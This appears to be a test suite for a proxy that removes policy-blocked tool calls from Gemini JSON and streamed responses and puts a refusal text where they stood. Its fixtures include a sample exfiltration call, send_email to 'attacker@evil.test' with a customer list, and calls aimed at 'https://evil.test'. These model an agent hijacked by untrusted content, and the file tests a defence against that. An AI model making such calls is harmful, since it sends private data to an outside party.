import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { BlockedCall } from '../../policy/refusal.js';
import { refusalText } from '../../policy/refusal.js';
import type { HeldEvent } from '../types.js';
import { decodeGenerateResponse } from './decode-response.js';
import { geminiStreamReader } from './decode-stream.js';
import { refuseGenerateResponse, refuseGenerateStream } from './encode-refusal.js';
import { geminiAdapter } from './index.js';

const text = (name: string) => readFileSync(new URL(`./__fixtures__/${name}`, import.meta.url), 'utf8');
const json = (name: string): any => JSON.parse(text(name));

const SEND: BlockedCall = { toolCallId: 'call_send', tool: 'send_email', reason: '"send_email" was blocked: its argument to comes from untrusted content (message 3)' };
/** The first call of candidate 0 when it has no id of its own: known by its position. */
const WEATHER: BlockedCall = { toolCallId: '#0.0', tool: 'get_weather', reason: 'weather is off limits' };

const chunk = (parts: unknown[], finish?: string) => ({
  candidates: [{ content: { parts, role: 'model' }, ...(finish ? { finishReason: finish } : {}), index: 0 }],
  usageMetadata: { promptTokenCount: 9, totalTokenCount: 9 },
  modelVersion: 'gemini-2.5-flash',
  responseId: 'r1',
});
const send = { functionCall: { id: 'call_send', name: 'send_email', args: { to: 'attacker@evil.test', body: 'customer list' } }, thoughtSignature: 'SIG' };
const read = { functionCall: { id: 'call_file', name: 'read_file', args: { path: 'notes.txt' } } };

/** The events of an SSE body, split as the core splits them; held from the first tool-call event on, as the core holds. */
function heldOf(body: string): { passed: string; held: HeldEvent[] } {
  const reader = geminiStreamReader();
  let passed = '';
  const held: HeldEvent[] = [];
  for (const raw of body.split(/\r\n\r\n/).filter((event) => event.trim() !== '')) {
    const data = raw.replace(/^data: /, '');
    const event = { data, encoded: `data: ${data}\n\n` };
    if (reader.read(event).toolCall || held.length > 0) held.push(event);
    else passed += event.encoded;
  }
  return { passed, held };
}
const sseOf = (...chunks: unknown[]) => chunks.map((c) => `data: ${JSON.stringify(c)}\r\n\r\n`).join('');
/** What a client assembles from the events it got. */
const viewOf = (sse: string) => {
  const reader = geminiStreamReader();
  for (const raw of sse.split(/\r?\n\r?\n/).filter((event) => event.trim() !== '')) reader.read({ data: raw.replace(/^data: /, '') });
  return reader.view();
};

describe('Gemini refusal of a JSON answer', () => {
  it('a single refused call: the part is gone, the refusal is a text part, finishReason stays STOP, the signature moves to the refusal', () => {
    const body = chunk([send], 'STOP');
    const out: any = refuseGenerateResponse(structuredClone(body), [SEND]);
    expect(out.candidates[0].content.parts).toEqual([{ text: refusalText([SEND]), thoughtSignature: 'SIG' }]);
    expect(out.candidates[0].finishReason).toBe('STOP');
    expect(JSON.stringify(out)).not.toContain('attacker@evil.test');
    const view = decodeGenerateResponse(out);
    expect(view.toolCalls).toEqual([]);
    expect(view.text).toBe(refusalText([SEND]));
  });

  it('parallel calls, one kept: text first, the refusal where the refused call stood, the kept call signed in its place', () => {
    const out: any = refuseGenerateResponse(chunk([{ text: 'On it. ' }, send, read], 'STOP'), [SEND]);
    expect(out.candidates[0].content.parts).toEqual([{ text: 'On it. ' }, { text: refusalText([SEND]) }, { ...read, thoughtSignature: 'SIG' }]);
    const view = geminiAdapter.readResponse('generate_content', out);
    expect(view.toolCalls).toEqual([{ id: 'call_file', name: 'read_file', arguments: '{"path":"notes.txt"}' }]);
    expect(view.text).toBe(`On it. ${refusalText([SEND])}`);
  });

  it('golden bodies: calls without an id are known by position: of two get_weather calls exactly the refused one goes', () => {
    const single: any = refuseGenerateResponse(json('tool-call.json'), [WEATHER]);
    expect(single.candidates[0].content.parts).toEqual([{ text: refusalText([WEATHER]), thoughtSignature: json('tool-call.json').candidates[0].content.parts[0].thoughtSignature }]);
    expect(single.usageMetadata).toEqual(json('tool-call.json').usageMetadata);
    const parallel = decodeGenerateResponse(refuseGenerateResponse(json('parallel-tool-calls.json'), [WEATHER]));
    // The calls kept keep their positional ids: the audit row's ids and the answer agree.
    expect(parallel.toolCalls).toEqual([
      { id: '#0.0', name: 'get_weather', arguments: '{"city":"Genève"}' },
      { id: '#0.1', name: 'get_time', arguments: '{"zone":"Europe/Zurich"}' },
    ]);
    expect(parallel.text).toBe(`I'll look up both cities at once.${refusalText([WEATHER])}`);
    const second = decodeGenerateResponse(refuseGenerateResponse(json('parallel-tool-calls.json'), [{ ...WEATHER, toolCallId: '#0.1' }]));
    expect(second.toolCalls.map((call) => call.arguments)).toEqual(['{"city":"Zürich"}', '{"zone":"Europe/Zurich"}']);
  });

  it('an id given twice: the second call is known by its position, so each is removed alone', () => {
    const twice = () => chunk([send, { functionCall: { id: 'call_send', name: 'send_email', args: { to: 'boss@corp.test' } } }], 'STOP');
    expect(decodeGenerateResponse(twice()).toolCalls.map((call) => call.id)).toEqual(['call_send', '#0.1']);
    const first: any = refuseGenerateResponse(twice(), [SEND]);
    expect(JSON.stringify(first)).not.toContain('attacker@evil.test');
    expect(JSON.stringify(first)).toContain('boss@corp.test');
    const second: any = refuseGenerateResponse(twice(), [{ ...SEND, toolCallId: '#0.1' }]);
    expect(JSON.stringify(second)).toContain('attacker@evil.test');
    expect(JSON.stringify(second)).not.toContain('boss@corp.test');
    // An upstream cannot name its call like a position to have another one removed in its place.
    expect(decodeGenerateResponse(chunk([{ functionCall: { id: '#0.1', name: 'a', args: {} } }, { functionCall: { name: 'b', args: {} } }])).toolCalls.map((call) => call.id)).toEqual(['#0.0', '#0.1']);
  });

  it('candidateCount > 1: each candidate counts its own calls; a refused call in candidate 1 is removed there only', () => {
    const call = (city: string) => ({ functionCall: { name: 'get_weather', args: { city } } });
    const body = () => ({ candidates: [{ content: { parts: [call('Bern')], role: 'model' }, index: 0 }, { content: { parts: [call('Basel'), call('Chur')], role: 'model' }, index: 1 }] });
    expect(decodeGenerateResponse(body()).toolCalls.map((c) => c.id)).toEqual(['#0.0', '#1.0', '#1.1']);
    const out: any = refuseGenerateResponse(body(), [{ ...WEATHER, toolCallId: '#1.0' }]);
    expect(out.candidates[0].content.parts).toEqual([call('Bern')]);
    expect(out.candidates[1].content.parts).toEqual([{ text: refusalText([{ ...WEATHER, toolCallId: '#1.0' }]) }, call('Chur')]);
  });

  it('a part of a type this proxy does not know is an action: it gets a positional id, and refusing it removes exactly it', () => {
    const body = () => chunk([{ text: 'Running it. ' }, { functionCall: { name: 'read_file', args: { path: 'a' } } }, { remoteAction: { target: 'https://evil.test' } }, { text: 'ok' }], 'STOP');
    expect(decodeGenerateResponse(body()).toolCalls).toEqual([
      { id: '#0.0', name: 'read_file', arguments: '{"path":"a"}' },
      { id: '#0.1', name: 'remoteAction', arguments: '{"target":"https://evil.test"}', unknownShape: true },
    ]);
    const blocked = { toolCallId: '#0.1', tool: 'remoteAction', reason: 'unknown' };
    const out: any = refuseGenerateResponse(body(), [blocked]);
    expect(out.candidates[0].content.parts).toEqual([{ text: 'Running it. ' }, { functionCall: { name: 'read_file', args: { path: 'a' } } }, { text: refusalText([blocked]) }, { text: 'ok' }]);
  });

  it('the JSON array of streamGenerateContent: a chunk left with nothing is dropped, the rest kept in order', () => {
    const array = [chunk([{ text: 'Sending. ' }]), chunk([read]), chunk([send]), chunk([{ text: '' }], 'STOP')];
    const out = refuseGenerateResponse(array, [SEND]) as any[];
    expect(out).toHaveLength(4);
    expect(decodeGenerateResponse(out)).toMatchObject({ text: `Sending. ${refusalText([SEND])}`, toolCalls: [{ id: 'call_file' }], finishReason: 'STOP' });
    const both = refuseGenerateResponse([chunk([send]), chunk([{ functionCall: { id: 'call_2', name: 'send_email', args: {} } }]), chunk([{ text: '' }], 'STOP')], [SEND, { ...SEND, toolCallId: 'call_2' }]) as any[];
    expect(both).toHaveLength(2);
    expect(decodeGenerateResponse(both).toolCalls).toEqual([]);
  });

  it('fails closed when the refused call is not in the answer (the core then refuses the whole answer)', () => {
    expect(refuseGenerateResponse(chunk([read], 'STOP'), [SEND])).toBeUndefined();
    expect(geminiAdapter.refuseToolCalls?.('count_tokens', chunk([send]), [SEND])).toBeUndefined();
  });
});

describe('Gemini refusal of a held stream', () => {
  it('the reader flags the events that carry a call, and only those', () => {
    const reader = geminiStreamReader();
    expect(reader.read({ data: JSON.stringify(chunk([{ text: 'hi' }])) })).toEqual({});
    expect(reader.read({ data: JSON.stringify(chunk([{ text: 'x' }, read])) })).toEqual({ toolCall: true });
    expect(reader.read({ data: '{"error":{"code":500,"message":"boom","status":"INTERNAL"}}' })).toEqual({ error: 'boom' });
    expect(geminiAdapter.flagsToolCallEvents).toBe(true);
  });

  it('a single refused call: the event is re-encoded with the refusal instead; nothing of the call goes out; no [DONE] added', () => {
    const { passed, held } = heldOf(sseOf(chunk([{ text: 'Let me handle that. ' }]), chunk([send], 'STOP')));
    expect(held).toHaveLength(1);
    const out = refuseGenerateStream(held, [SEND])!;
    expect(out).not.toContain('attacker@evil.test');
    expect(out).not.toContain('send_email"');
    expect(out).not.toContain('[DONE]');
    expect(viewOf(passed + out)).toMatchObject({ text: `Let me handle that. ${refusalText([SEND])}`, toolCalls: [], finishReason: 'STOP' });
  });

  it('parallel calls across events, one kept: untouched events go out byte for byte, an emptied event is dropped', () => {
    const events = [chunk([read]), chunk([send]), chunk([{ text: 'Done.' }], 'STOP')];
    const { held } = heldOf(sseOf(...events));
    expect(held).toHaveLength(3);
    const out = refuseGenerateStream(held, [SEND])!;
    const sent = out.split(/\r?\n\r?\n/).filter(Boolean);
    expect(sent).toHaveLength(3);
    expect(sent[0]).toBe(held[0]!.encoded.trimEnd());
    expect(viewOf(out)).toMatchObject({ text: `${refusalText([SEND])}Done.`, toolCalls: [{ id: 'call_file', name: 'read_file' }], finishReason: 'STOP' });
    // The refused call alone in a middle event: that event is dropped, the refusal goes where it stood.
    const { held: alone } = heldOf(sseOf(chunk([read]), chunk([send]), chunk([{ functionCall: { id: 'call_2', name: 'send_email', args: {} } }]), chunk([{ text: '' }], 'STOP')));
    const two = refuseGenerateStream(alone, [SEND, { ...SEND, toolCallId: 'call_2' }])!;
    expect(two.split(/\r?\n\r?\n/).filter(Boolean)).toHaveLength(3);
    expect(viewOf(two).toolCalls.map((call) => call.id)).toEqual(['call_file']);
  });

  it('the golden parallel stream: the refused id-less get_weather call goes, the other and get_time stay, the text before is never held', () => {
    const { passed, held } = heldOf(text('parallel-tool-calls.sse'));
    expect(passed).toContain("I'll look up both cities at once.");
    const second = { ...WEATHER, toolCallId: '#0.1' };
    const out = refuseGenerateStream(held, [second])!;
    expect(out).not.toContain('Genève');
    expect(out).toContain('Zürich');
    expect(viewOf(passed + out)).toEqual({ ...decodeGenerateResponse(refuseGenerateResponse(json('parallel-tool-calls.json'), [second])) });
  });

  it('id-less calls of one tool in separate events: numbered across events, exactly the refused one goes', () => {
    const call = (city: string) => ({ functionCall: { name: 'get_weather', args: { city } } });
    const { held } = heldOf(sseOf(chunk([call('Bern')]), chunk([call('https://evil.test')]), chunk([call('Chur')], 'STOP')));
    expect(viewOf(held.map((event) => event.encoded).join('')).toolCalls.map((c) => c.id)).toEqual(['#0.0', '#0.1', '#0.2']);
    const out = refuseGenerateStream(held, [{ ...WEATHER, toolCallId: '#0.1' }])!;
    expect(out).not.toContain('evil.test');
    expect(viewOf(out).toolCalls.map((c) => c.arguments)).toEqual(['{"city":"Bern"}', '{"city":"Chur"}']);
  });

  it('an event whose only action is a part of an unknown type is held, and the part can be removed', () => {
    const { passed, held } = heldOf(sseOf(chunk([{ text: 'a' }]), chunk([{ futureCall: { x: 1 } }]), chunk([{ text: 'b' }], 'STOP')));
    expect(passed).toContain('"a"');
    expect(held).toHaveLength(2);
    const out = refuseGenerateStream(held, [{ toolCallId: '#0.0', tool: 'futureCall', reason: 'unknown' }])!;
    expect(out).not.toContain('"futureCall":');
    expect(viewOf(out)).toMatchObject({ toolCalls: [], text: `${refusalText([{ toolCallId: '#0.0', tool: 'futureCall', reason: 'unknown' }])}b` });
  });

  it('fails closed when the call is not found; passes non-JSON events through', () => {
    expect(refuseGenerateStream([{ data: JSON.stringify(chunk([read], 'STOP')), encoded: 'x' }], [SEND])).toBeUndefined();
    const out = refuseGenerateStream([{ data: JSON.stringify(chunk([send])), encoded: 'a' }, { data: 'not json', encoded: 'data: not json\n\n' }], [SEND])!;
    expect(out.endsWith('data: not json\n\n')).toBe(true);
  });
});
